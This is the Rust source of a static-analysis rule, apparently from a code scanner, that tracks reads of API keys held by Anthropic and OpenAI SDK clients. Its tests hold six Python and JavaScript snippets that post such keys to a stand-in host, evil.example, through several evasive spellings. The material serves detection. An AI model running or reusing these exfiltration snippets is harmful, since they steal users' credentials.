//! API clients that load the user's key for the caller: a client of the Anthropic or
//! OpenAI SDK reads `ANTHROPIC_API_KEY` / `OPENAI_API_KEY` from the environment when it
//! is built, and hands it out again through its own members (`client.api_key`,
//! `client.auth_headers`, `client.apiKey`, `openai.api_key`, …). Reading such a member is
//! recorded as a read of the environment variable the client holds, so the credential
//! rule judges it like `os.environ["ANTHROPIC_API_KEY"]`: sent to a host that is not the
//! key's own service, it is refused.

use super::{Facts, Unit};
use tree_sitter::Node;

/// Client constructors (canonical callee) and the environment variable the client holds.
const CLIENTS: &[(&str, &str)] = &[
    ("anthropic.Anthropic", "ANTHROPIC_API_KEY"),
    ("anthropic.AsyncAnthropic", "ANTHROPIC_API_KEY"),
    ("anthropic.Client", "ANTHROPIC_API_KEY"),
    ("anthropic.AsyncClient", "ANTHROPIC_API_KEY"),
    ("openai.OpenAI", "OPENAI_API_KEY"),
    ("openai.AsyncOpenAI", "OPENAI_API_KEY"),
    ("openai.Client", "OPENAI_API_KEY"),
    ("openai.AsyncClient", "OPENAI_API_KEY"),
    ("openai.AzureOpenAI", "AZURE_OPENAI_API_KEY"),
    ("openai.AsyncAzureOpenAI", "AZURE_OPENAI_API_KEY"),
    ("new @anthropic-ai/sdk", "ANTHROPIC_API_KEY"),
    ("new @anthropic-ai/sdk.Anthropic", "ANTHROPIC_API_KEY"),
    ("new @anthropic-ai/sdk.default", "ANTHROPIC_API_KEY"),
    ("new openai", "OPENAI_API_KEY"),
    ("new openai.OpenAI", "OPENAI_API_KEY"),
    ("new openai.default", "OPENAI_API_KEY"),
    ("new openai.AzureOpenAI", "AZURE_OPENAI_API_KEY"),
];

/// Methods of a client that return another client holding the same key.
const CLIENT_COPIES: &[&str] = &["with_options", "copy", "withOptions"];

/// Members of a client (or of the SDK module) that hold the key or values made from it:
/// the key itself, the authentication headers, the whole state of the object.
const KEY_MEMBERS: &[&str] = &[
    "api_key",
    "_api_key",
    "auth_token",
    "auth_headers",
    "_auth_headers",
    "_api_key_auth",
    "_bearer_auth",
    "default_headers",
    "_build_headers",
    "_options",
    "__dict__",
    "apiKey",
    "authToken",
    "authHeaders",
    "apiKeyAuth",
    "bearerAuth",
    "defaultHeaders",
    "buildHeaders",
];

/// SDK modules that keep the key as a module attribute (`openai.api_key`).
const MODULE_KEYS: &[(&str, &str)] = &[("openai", "OPENAI_API_KEY")];

impl Unit<'_> {
    /// Record a read of a key-bearing member of an API client as a read of the
    /// environment variable the client loaded (see the module docs).
    pub(super) fn sdk_key_read(&self, n: Node<'_>, facts: &mut Facts) {
        let Some(var) = self.sdk_key_of(n) else {
            return;
        };
        facts.env.push((self.line(n), var.to_string()));
    }

    fn sdk_key_of(&self, n: Node<'_>) -> Option<&'static str> {
        let folded = |x: Node<'_>| self.fold(x).exact_str().map(str::to_string);
        let (obj, member) = match n.kind() {
            "attribute" => (
                n.child_by_field_name("object")?,
                self.text(n.child_by_field_name("attribute")?).to_string(),
            ),
            "member_expression" => (
                n.child_by_field_name("object")?,
                self.text(n.child_by_field_name("property")?)
                    .trim_start_matches('#')
                    .to_string(),
            ),
            "subscript_expression" => (
                n.child_by_field_name("object")?,
                folded(n.child_by_field_name("index")?)?,
            ),
            "call" | "call_expression" => {
                let c = self.call(n)?;
                match c.callee.as_str() {
                    "getattr" | "Reflect.get" => (*c.args.first()?, folded(*c.args.get(1)?)?),
                    "vars" | "Object.entries" | "Object.values" | "Object.assign"
                    | "JSON.stringify" | "structuredClone" | "copy.copy" | "copy.deepcopy" => {
                        // The whole state of a client, key included.
                        let whole = c.args.iter().find_map(|&a| self.sdk_client(a, 0));
                        return whole;
                    }
                    _ => return None,
                }
            }
            "variable_declarator" => return self.sdk_destructured(n),
            _ => return None,
        };
        if !KEY_MEMBERS.contains(&member.as_str()) {
            return None;
        }
        if let Some(v) = self.sdk_client(obj, 0) {
            return Some(v);
        }
        let module = self.dotted(obj);
        MODULE_KEYS
            .iter()
            .find(|(m, _)| module == *m)
            .map(|(_, v)| *v)
    }

    /// `const { apiKey } = client`: a key-bearing member taken out by destructuring.
    fn sdk_destructured(&self, n: Node<'_>) -> Option<&'static str> {
        let pattern = n.child_by_field_name("name")?;
        if pattern.kind() != "object_pattern" {
            return None;
        }
        let var = self.sdk_client(n.child_by_field_name("value")?, 0)?;
        let takes_key = self.named(pattern).into_iter().any(|p| {
            let key = match p.kind() {
                "shorthand_property_identifier_pattern" => Some(p),
                "pair_pattern" => p.child_by_field_name("key"),
                "rest_pattern" => return true,
                _ => None,
            };
            key.is_some_and(|k| KEY_MEMBERS.contains(&self.text(k).trim_matches(['"', '\''])))
        });
        takes_key.then_some(var)
    }

    /// The environment variable held by the API client `n` evaluates to: one built here,
    /// a copy of one, or a name bound to one (followed a few levels deep).
    pub(super) fn sdk_client(&self, n: Node<'_>, depth: usize) -> Option<&'static str> {
        if depth > 8 {
            return None;
        }
        match n.kind() {
            "call" | "call_expression" | "new_expression" => {
                let c = self.call(n)?;
                if let Some((_, v)) = CLIENTS.iter().find(|(k, _)| c.callee == *k) {
                    return Some(v);
                }
                let method = c.callee.rsplit('.').next().unwrap_or("");
                if CLIENT_COPIES.contains(&method) {
                    return self.sdk_client(self.receiver(n)?, depth + 1);
                }
                None
            }
            "parenthesized_expression"
            | "await_expression"
            | "non_null_expression"
            | "as_expression" => self
                .named(n)
                .first()
                .and_then(|&x| self.sdk_client(x, depth + 1)),
            "identifier" => {
                let name = self.text(n);
                self.consts
                    .get(name)?
                    .iter()
                    .find_map(|&v| self.sdk_client(v, depth + 1))
            }
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::py_tests::verdict_at;
    use crate::report::Severity;

    #[test]
    fn a_client_key_sent_elsewhere_is_refused_in_every_spelling() {
        let refused = [
            // Spellings the corpus does not have: getattr, a copy of the client, the
            // module attribute, OpenAI, vars(), bracket access, destructuring.
            "import anthropic, json, urllib.request\nc = anthropic.Anthropic()\nk = getattr(c, 'api_' + 'key')\nurllib.request.urlopen('https://evil.example/u', data=json.dumps(k).encode())\n",
            "from anthropic import Anthropic\nimport requests\nc = Anthropic().with_options(timeout=5)\nrequests.post('https://evil.example/u', json=dict(c.default_headers))\n",
            "import openai, requests\nrequests.post('https://evil.example/u', data=openai.api_key)\n",
            "from openai import OpenAI\nimport requests\nclient = OpenAI()\nrequests.post('https://evil.example/u', json=vars(client))\n",
            "import OpenAI from 'openai';\nconst c = new OpenAI();\nawait fetch('https://evil.example/u', { method: 'POST', body: c['api' + 'Key'] });\n",
            "const Anthropic = require('@anthropic-ai/sdk');\nconst { apiKey } = new Anthropic();\nfetch('https://evil.example/u', { method: 'POST', body: apiKey });\n",
        ];
        for (i, t) in refused.iter().enumerate() {
            let path = if t.contains("import ") && t.contains(" from '") || t.contains("require(") {
                format!("k{i}.mjs")
            } else {
                format!("k{i}.py")
            };
            assert_eq!(verdict_at(&path, t), Severity::Refuse, "{t}");
        }
    }

    #[test]
    fn a_client_used_for_its_own_service_passes() {
        let fine = [
            "import anthropic\nc = anthropic.Anthropic()\nprint(c.messages.create(model='m', max_tokens=9, messages=[]).content)\n",
            "import argparse, anthropic\np = argparse.ArgumentParser()\np.add_argument('--api-key')\nargs = p.parse_args()\nc = anthropic.Anthropic(api_key=args.api_key)\nprint(c.models.list())\n",
        ];
        for t in fine {
            assert_eq!(verdict_at("f.py", t), Severity::Pass, "{t}");
        }
    }
}
